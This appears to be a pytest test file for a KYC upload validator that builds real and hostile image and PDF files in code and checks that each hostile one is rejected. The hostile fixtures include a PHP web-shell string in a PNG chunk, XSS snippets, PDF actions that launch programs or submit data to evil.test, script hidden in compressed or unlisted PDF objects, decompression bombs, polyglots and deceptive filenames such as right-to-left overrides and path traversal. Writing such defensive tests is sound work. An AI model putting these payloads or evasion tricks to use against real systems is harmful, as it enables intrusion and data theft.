"""KYC upload validation against a corpus built in code: real documents from Pillow and pypdf, hostile ones by hand.

No database and no files on disk: every case is bytes in, `ValidatedUpload` or `UploadRejected` out.
"""

from __future__ import annotations

import hashlib
import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable

import pytest
from PIL import Image, ImageDraw, PngImagePlugin
from pypdf import PdfWriter
from pypdf.actions import JavaScript, PageTrigger
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from core.errors import ApplicationError
from kyc import uploads
from kyc.uploads import ACCEPTED_TYPES_MESSAGE, UploadRejected, validate_upload

STORAGE_NAME = re.compile(r"^[0-9a-f]{32}\.(jpg|png|pdf)$")


# Corpus


def make_image(fmt: str = "JPEG", size: tuple[int, int] = (800, 600), **save: object) -> bytes:
    """A document-like picture: a light card with a dark photo block and a line of text."""
    image = Image.new("RGB", size, (236, 230, 218))
    draw = ImageDraw.Draw(image)
    draw.rectangle((size[0] // 20, size[1] // 10, size[0] // 3, size[1] // 2), fill=(40, 60, 110))
    draw.text((size[0] // 2, size[1] // 5), "PASSPORT P<UTOERIKSSON<<ANNA", fill=(20, 20, 20))
    buffer = io.BytesIO()
    image.save(buffer, fmt, **save)
    return buffer.getvalue()


def make_pdf(pages: int = 1, build: Callable[[PdfWriter], None] | None = None) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if build:
        build(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def make_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.txt", "not a document")
    return buffer.getvalue()


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def crafted_png(width: int, height: int) -> bytes:
    """A well-formed PNG whose header claims `width` x `height` grey pixels but whose IDAT holds a few bytes."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit greyscale, no interlace
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"tEXt", b"Comment\x00" + b"scanned at the branch " * 5)  # lifts it over the minimum size
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + png_chunk(b"IEND", b"")
    )


def jpeg_claiming(width: int, height: int) -> bytes:
    """A real JPEG whose start-of-frame header is rewritten to claim other dimensions."""
    data = bytearray(make_image("JPEG", (300, 300)))
    frame = data.index(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def open_action(action: dict[str, object]) -> Callable[[PdfWriter], None]:
    """A pypdf builder that sets the document's /OpenAction to `action` (name values start with "/")."""

    def build(writer: PdfWriter) -> None:
        entries = {
            NameObject(key): NameObject(value) if str(value).startswith("/") else TextStringObject(str(value))
            for key, value in action.items()
        }
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(entries)

    return build


def add_js_to_names_tree(writer: PdfWriter) -> None:
    # pypdf 7 removed add_js(); add_open_action() is its replacement and files the script in the /JavaScript tree.
    writer.add_open_action(JavaScript("app.alert('hello');"))


def add_page_open_script(writer: PdfWriter) -> None:
    writer.pages[0].add_action(PageTrigger.OPEN, JavaScript("app.alert('page');"))


def add_attachment(writer: PdfWriter) -> None:
    writer.add_attachment("invoice.txt", b"see attached")


def add_xfa_form(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): TextStringObject("<xdp:xdp/>")}
    )


def add_rich_media(writer: PdfWriter) -> None:
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/RichMedia"),
            NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(10), NumberObject(10)]),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def pdf_with_compressed_script() -> bytes:
    """A PDF 1.5 whose JavaScript /OpenAction lives inside a Flate-compressed object stream.

    Its bytes contain no /JS or /JavaScript token at all, so only the parsed object graph can reveal it.
    """
    action = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    index = b"4 0 "
    packed = zlib.compress(index + action)
    body = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        None,  # object 4 is stored in object stream 5
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (len(index), len(packed))
        + packed
        + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number, obj in enumerate(body, start=1):
        if obj is not None:
            offsets[number] = len(out)
            out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    xref_number = len(body) + 1
    offsets[xref_number] = len(out)
    rows = b"\x00" + struct.pack(">IH", 0, 65535)
    for number in range(1, xref_number + 1):
        if number == 4:
            rows += b"\x02" + struct.pack(">IH", 5, 0)  # compressed: object stream 5, index 0
        else:
            rows += b"\x01" + struct.pack(">IH", offsets[number], 0)
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % (xref_number, xref_number + 1, len(rows))
        + rows
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    )
    return bytes(out)


def rejection(content: bytes | io.BytesIO, name: str = "document.jpg", **kwargs: object) -> UploadRejected:
    with pytest.raises(UploadRejected) as caught:
        validate_upload(name=name, content=content, **kwargs)
    return caught.value


# Accepted documents


@pytest.mark.parametrize(
    ("name", "content", "content_type", "extension", "size", "pages"),
    [
        ("passport.jpg", make_image("JPEG"), "image/jpeg", ".jpg", (800, 600), None),
        ("passport-progressive.jpeg", make_image("JPEG", progressive=True), "image/jpeg", ".jpg", (800, 600), None),
        ("selfie.png", make_image("PNG", (600, 800)), "image/png", ".png", (600, 800), None),
        ("statement.pdf", make_pdf(pages=3), "application/pdf", ".pdf", (None, None), 3),
    ],
)
def test_accepts_real_documents_and_describes_them(name, content, content_type, extension, size, pages):
    upload = validate_upload(name=name, content=content, declared_type=content_type)

    assert upload.content == content
    assert upload.content_type == content_type
    assert upload.extension == extension
    assert upload.sha256 == hashlib.sha256(content).hexdigest()
    assert upload.size == len(content)
    assert (upload.width, upload.height) == size
    assert upload.pages == pages
    assert upload.original_name == name
    assert STORAGE_NAME.match(upload.storage_name)
    assert upload.storage_name.endswith(extension)


def test_type_and_extension_come_from_the_content_not_the_client():
    png = make_image("PNG")

    upload = validate_upload(name="passport.pdf", content=png, declared_type="application/pdf")

    assert (upload.content_type, upload.extension) == ("image/png", ".png")
    assert upload.storage_name.endswith(".png")
    assert upload.original_name == "passport.pdf"


def test_every_upload_gets_its_own_storage_name():
    jpeg = make_image("JPEG")

    first = validate_upload(name="id.jpg", content=jpeg)
    second = validate_upload(name="id.jpg", content=jpeg)

    assert first.sha256 == second.sha256
    assert first.storage_name != second.storage_name


def test_accepts_a_file_like_object():
    jpeg = make_image("JPEG")

    upload = validate_upload(name="id.jpg", content=io.BytesIO(jpeg))

    assert upload.content == jpeg


def test_accepts_padding_and_an_appended_jpeg_stream_after_the_image():
    # Encoders pad with NUL bytes, and Ultra HDR phone photos append their gain map as a second complete JPEG.
    jpeg = make_image("JPEG")

    assert validate_upload(name="id.jpg", content=jpeg + b"\x00" * 64).size == len(jpeg) + 64
    assert validate_upload(name="id.jpg", content=jpeg + make_image("JPEG", (200, 200))).width == 800


# Size


def test_rejects_an_oversize_file_before_looking_at_it(settings):
    settings.KYC_UPLOAD_MAX_BYTES = 1024 * 1024

    error = rejection(b"\x00" * (1024 * 1024 + 1))

    assert error.code == "too_large"
    assert error.message == "The file is larger than 1 MB. Please upload a smaller photo or scan."


def test_default_size_limit_is_ten_megabytes():
    error = rejection(b"%PDF-" + b"\x00" * (10 * 1024 * 1024), name="statement.pdf")

    assert error.code == "too_large"
    assert "larger than 10 MB" in error.message


def test_reads_at_most_one_byte_past_the_limit(settings):
    settings.KYC_UPLOAD_MAX_BYTES = 2000
    stream = io.BytesIO(b"\xff\xd8\xff" + b"\x00" * 1_000_000)

    assert rejection(stream).code == "too_large"
    assert stream.tell() == 2001


@pytest.mark.parametrize(("content", "code"), [(b"", "empty"), (b"\xff\xd8\xff\xe0\x00\x10JFIF", "too_small")])
def test_rejects_empty_and_tiny_files(content, code):
    assert rejection(content).code == code


# Type detection


def office_document() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        pytest.param("passport.jpg", make_image("GIF"), id="gif-named-jpg"),
        pytest.param(
            "id.pdf", b"<!DOCTYPE html><html><body>" + b"Your ID " * 40 + b"</body></html>", id="html-named-pdf"
        ),
        pytest.param("scan.png", make_zip(), id="zip-named-png"),
        pytest.param("bill.pdf", office_document(), id="docx-named-pdf"),
        pytest.param("selfie.png", b'<svg xmlns="http://www.w3.org/2000/svg">' + b"<g/>" * 40 + b"</svg>", id="svg"),
        pytest.param("selfie.jpg", make_image("WEBP"), id="webp"),
        pytest.param("selfie.jpg", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00" + b"\x00" * 200, id="heic"),
        pytest.param("selfie.jpg", make_image("BMP", (300, 300)), id="bmp"),
        pytest.param("selfie.jpg", make_image("TIFF", (300, 300)), id="tiff"),
        pytest.param("id.pdf", b"MZ\x90\x00" + b"\x00" * 300, id="windows-executable"),
        pytest.param("id.pdf", b"\x7fELF\x02\x01\x01" + b"\x00" * 300, id="linux-executable"),
        pytest.param("id.pdf", b"\n" + make_pdf(), id="pdf-header-not-at-offset-0"),
    ],
)
def test_rejects_other_formats_whatever_they_are_called(name, content):
    error = rejection(content, name=name, declared_type="image/jpeg")

    assert error.code == "unsupported_type"
    assert error.message == ACCEPTED_TYPES_MESSAGE
    assert error.extra == {"declared_type": "image/jpeg"}
    assert isinstance(error, ApplicationError)


@pytest.mark.parametrize(
    ("name", "extension"),
    [
        ("x.pdf.exe", "exe"),
        ("passport.jpg.EXE", "exe"),
        ("id.html", "html"),
        ("logo.svg", "svg"),
        ("payload.js", "js"),
        ("x.exe\x00.pdf", "exe"),  # NUL truncation: C-based tools would see "x.exe"
        ("photo\u202egpj.exe", "exe"),  # right-to-left override shows it as "photoexe.jpg"
        ("scan.php.jpg", "php"),
    ],
)
def test_rejects_dangerous_names_even_with_good_content(name, extension):
    error = rejection(make_image("JPEG"), name=name)

    assert error.code == "dangerous_name"
    assert error.message == f'Files with ".{extension}" in their name are not accepted. {ACCEPTED_TYPES_MESSAGE}'


@pytest.mark.parametrize("name", ["mybank.com.pdf", "J. Smith passport 2024.06.01.pdf", "statement.PDF"])
def test_ordinary_names_with_dots_are_fine(name):
    assert validate_upload(name=name, content=make_pdf()).original_name == name


# Polyglots and hidden payloads


def png_with_text(text: str) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", text)
    return make_image("PNG", pnginfo=info)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        pytest.param("id.jpg", make_image("JPEG") + make_pdf(), id="jpeg-plus-pdf"),
        pytest.param("id.png", make_image("PNG") + make_zip(), id="png-plus-zip"),
        pytest.param("id.pdf", make_pdf() + make_zip(), id="pdf-plus-zip"),
        pytest.param("id.jpg", make_image("JPEG", comment=b"<script>alert(1)</script>"), id="jpeg-comment-script"),
        pytest.param("id.png", png_with_text("<SVG onload=alert(1)>"), id="png-text-svg"),
        pytest.param("id.png", png_with_text("<?php system($_GET['c']); ?>"), id="png-text-php"),
        pytest.param("id.pdf", make_pdf() + b"<html><script>alert(1)</script></html>", id="pdf-plus-html"),
    ],
)
def test_rejects_files_carrying_a_second_format(name, content):
    error = rejection(content, name=name)

    assert error.code == "embedded_content"
    assert "hidden inside" in error.message


@pytest.mark.parametrize(
    ("name", "content"),
    [
        pytest.param("id.png", make_image("PNG") + b"payload after IEND", id="png-after-iend"),
        pytest.param("id.jpg", make_image("JPEG") + b"payload after EOI", id="jpeg-after-eoi"),
        # Ends with FFD9 itself, so "trailing data after the last FFD9" alone would miss it.
        pytest.param("id.jpg", make_image("JPEG") + b"payload\xff\xd9", id="jpeg-payload-ending-in-eoi"),
        pytest.param("id.pdf", make_pdf() + b"payload after the end", id="pdf-after-eof"),
    ],
)
def test_rejects_data_after_the_end_of_the_file(name, content):
    assert rejection(content, name=name).code == "trailing_data"


# Images


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(crafted_png(100_000, 100_000), id="png-10-gigapixels"),
        pytest.param(crafted_png(7_000, 7_000), id="png-49-megapixels"),
        pytest.param(crafted_png(12_001, 300), id="png-side-too-long"),
        pytest.param(jpeg_claiming(60_000, 60_000), id="jpeg-3-gigapixels"),
    ],
)
def test_rejects_decompression_bombs_from_their_header(content):
    # Each file is a few kilobytes; decoding any of them would allocate up to 10 GB.
    assert len(content) < 5000
    assert rejection(content).code == "image_too_large"


def test_a_crafted_header_within_the_limits_is_still_decoded_in_full():
    assert rejection(crafted_png(400, 400), name="id.png").code == "unreadable_image"


def test_pixel_and_side_limits_come_from_settings(settings):
    jpeg = make_image("JPEG")
    settings.KYC_UPLOAD_MAX_PIXELS = 400_000

    error = rejection(jpeg)

    assert error.code == "image_too_large"
    assert "(800 x 600 pixels)" in error.message
    assert "0.4 megapixels" in error.message

    settings.KYC_UPLOAD_MAX_PIXELS = 40_000_000
    settings.KYC_UPLOAD_MAX_SIDE = 700
    assert rejection(jpeg).code == "image_too_large"


@pytest.mark.parametrize("size", [(50, 50), (800, 150)])
def test_rejects_images_too_small_to_read(size):
    error = rejection(make_image("PNG", size), name="id.png")

    assert error.code == "image_too_small"
    assert f"({size[0]} x {size[1]} pixels)" in error.message


@pytest.mark.parametrize(
    ("name", "content"),
    [
        pytest.param("id.jpg", make_image("JPEG")[:4000], id="jpeg"),
        pytest.param("id.png", make_image("PNG")[:-40], id="png"),
    ],
)
def test_rejects_truncated_images(name, content):
    assert rejection(content, name=name).code == "unreadable_image"


def test_rejects_corrupt_png_data_behind_a_valid_header():
    png = bytearray(make_image("PNG"))
    idat = png.index(b"IDAT")
    png[idat + 20 : idat + 40] = b"\x00" * 20

    assert rejection(bytes(png), name="id.png").code == "unreadable_image"


@pytest.mark.parametrize("fmt", ["PNG", "MPO"])
def test_rejects_multi_frame_images(fmt):
    frames = [Image.new("RGB", (400, 400), colour) for colour in ("red", "blue")]
    buffer = io.BytesIO()
    frames[0].save(buffer, fmt, save_all=True, append_images=frames[1:])

    assert rejection(buffer.getvalue()).code == "multi_frame"


def test_animated_gif_is_refused_as_a_format():
    frames = [Image.new("P", (400, 400), colour) for colour in (1, 2)]
    buffer = io.BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:])

    assert rejection(buffer.getvalue(), name="selfie.gif").code == "unsupported_type"


def with_empty_png_chunks(png: bytes, count: int) -> bytes:
    ihdr_end = 8 + 25  # signature, then the IHDR chunk
    return png[:ihdr_end] + png_chunk(b"abCd", b"") * count + png[ihdr_end:]  # an ancillary, private chunk type


def with_empty_jpeg_segments(jpeg: bytes, count: int) -> bytes:
    return jpeg[:2] + b"\xff\xfe\x00\x02" * count + jpeg[2:]  # empty COM segments right after SOI


@pytest.mark.parametrize(
    ("name", "content"),
    [
        pytest.param("id.png", with_empty_png_chunks(make_image("PNG"), 20_001), id="png-chunks"),
        pytest.param("id.jpg", with_empty_jpeg_segments(make_image("JPEG"), 1_001), id="jpeg-segments"),
        pytest.param("id.jpg", make_image("JPEG")[:2] + b"\xff" * 17 + make_image("JPEG")[2:], id="jpeg-fill-bytes"),
    ],
)
def test_rejects_structure_floods_that_would_make_parsing_slow(name, content):
    assert rejection(content, name=name).code == "unreadable_image"


def test_accepts_a_few_fill_bytes_and_metadata_chunks():
    jpeg = make_image("JPEG")

    assert validate_upload(name="id.jpg", content=jpeg[:2] + b"\xff" * 3 + jpeg[2:]).width == 800
    assert validate_upload(name="id.jpg", content=with_empty_jpeg_segments(jpeg, 50)).width == 800
    assert validate_upload(name="id.png", content=with_empty_png_chunks(make_image("PNG"), 50)).width == 800


def test_rejects_jpegs_with_more_scans_than_a_real_encoder_writes(monkeypatch):
    progressive = make_image("JPEG", progressive=True)  # Pillow writes 10 scans
    monkeypatch.setattr(uploads, "MAX_JPEG_SCANS", 9)

    assert rejection(progressive).code == "unreadable_image"


# PDF


def test_rejects_password_protected_pdf():
    error = rejection(make_pdf(build=lambda writer: writer.encrypt("secret")), name="statement.pdf")

    assert error.code == "encrypted_pdf"
    assert "password-protected" in error.message


def test_rejects_pdf_over_the_page_limit():
    error = rejection(make_pdf(pages=21), name="statement.pdf")

    assert error.code == "too_many_pages"
    assert error.message.startswith("This PDF has 21 pages; the maximum is 20.")


def test_page_limit_comes_from_settings(settings):
    settings.KYC_UPLOAD_MAX_PDF_PAGES = 2

    assert validate_upload(name="bill.pdf", content=make_pdf(pages=2)).pages == 2
    assert rejection(make_pdf(pages=3), name="bill.pdf").code == "too_many_pages"


def test_rejects_pdf_without_pages():
    assert rejection(make_pdf(pages=0), name="bill.pdf").code == "empty_pdf"


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(b"%PDF-1.7\n" + b"this is not a pdf body " * 20, id="garbage-body"),
        pytest.param(make_pdf()[:300], id="truncated"),
    ],
)
def test_rejects_unreadable_pdf(content):
    error = rejection(content, name="statement.pdf")

    assert error.code == "unreadable_pdf"
    assert error.message.startswith("This PDF could not be read")


@pytest.mark.parametrize(
    ("build", "described"),
    [
        pytest.param(add_js_to_names_tree, "scripts", id="javascript-names-tree"),
        pytest.param(open_action({"/S": "/JavaScript", "/JS": "app.alert(1)"}), "scripts", id="javascript-openaction"),
        pytest.param(add_page_open_script, "scripts", id="javascript-page-aa"),
        pytest.param(open_action({"/S": "/Launch", "/F": "calc.exe"}), "start other programs", id="launch"),
        pytest.param(open_action({"/S": "/GoToR", "/F": r"\\evil\share\x.pdf"}), "open other files", id="gotor"),
        pytest.param(open_action({"/S": "/SubmitForm", "/F": "https://evil.test/"}), "send data", id="submit-form"),
        pytest.param(add_attachment, "attached files", id="embedded-file"),
        pytest.param(add_xfa_form, "XFA forms", id="xfa"),
        pytest.param(add_rich_media, "embedded media", id="rich-media"),
    ],
)
def test_rejects_pdf_with_active_content(build, described):
    error = rejection(make_pdf(build=build), name="statement.pdf")

    assert error.code == "active_content"
    assert described in error.message


def test_rejects_script_hidden_in_a_compressed_object_stream():
    pdf = pdf_with_compressed_script()
    assert b"/JS" not in pdf

    assert rejection(pdf, name="statement.pdf").code == "active_content"


def test_rejects_obfuscated_script_names():
    pdf = make_pdf(build=open_action({"/S": "/JavaScript", "/JS": "app.alert(1)"}))
    obfuscated = pdf.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/#4AS ")
    assert b"/JavaScript" not in obfuscated

    assert rejection(obfuscated, name="statement.pdf").code == "active_content"


def with_unlisted_object(pdf: bytes, obj: bytes) -> bytes:
    """`pdf` with `obj` inserted before its cross-reference table, which does not list it; startxref is kept valid."""
    xref = pdf.rindex(b"\nxref\n") + 1
    smuggled = pdf[:xref] + obj + pdf[xref:]
    return re.sub(rb"startxref\s+\d+", b"startxref\n%d" % (xref + len(obj)), smuggled)


def test_rejects_script_in_an_object_the_cross_reference_table_omits():
    # A viewer that rebuilds the "damaged" file finds object 9; pypdf follows the table and never does, so this is the
    # raw scan's catch. The same file with a harmless object 9 is accepted.
    pdf = make_pdf()
    harmless = with_unlisted_object(pdf, b"9 0 obj\n<< /S /GoTo /D [0] >>\nendobj\n")
    hostile = with_unlisted_object(pdf, b"9 0 obj\n<< /S /J#61vaScript /J#53 (app.alert(1)) >>\nendobj\n")

    assert validate_upload(name="statement.pdf", content=harmless).pages == 1
    assert rejection(hostile, name="statement.pdf").code == "active_content"


def test_script_words_in_text_or_stream_data_are_not_active_content():
    def build(writer: PdfWriter) -> None:
        writer.add_metadata({"/Title": "JavaScript for beginners: statement"})
        # Stream bytes are not scanned as names: a scanned page's compressed data could spell "/JS" by chance.
        contents = DecodedStreamObject()
        contents.set_data(b"% /JS /Launch\n")
        writer.pages[0][NameObject("/Contents")] = writer._add_object(contents)

    assert validate_upload(name="statement.pdf", content=make_pdf(build=build)).pages == 1


# Names


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\anna\\Desktop\\passport.jpg", "passport.jpg"),
        ("\x00.pdf", ".pdf"),
        ("", "document"),
        ("../..", "document"),
        ("  my \t passport\n scan.jpg ", "my passport scan.jpg"),
        ("\uff50\uff41\uff53\uff53\uff0f\uff49\uff44.jpg", "id.jpg"),  # fullwidth "pass/id" becomes a real path
        ("photo\u202egnp.jpg", "photognp.jpg"),
        ("a" * 300 + ".jpg", "a" * 96 + ".jpg"),
        ("x" * 300, "x" * 100),
    ],
)
def test_client_names_are_sanitised_for_display_and_never_stored(name, shown):
    upload = validate_upload(name=name, content=make_image("JPEG"))

    assert upload.original_name == shown
    assert STORAGE_NAME.match(upload.storage_name)
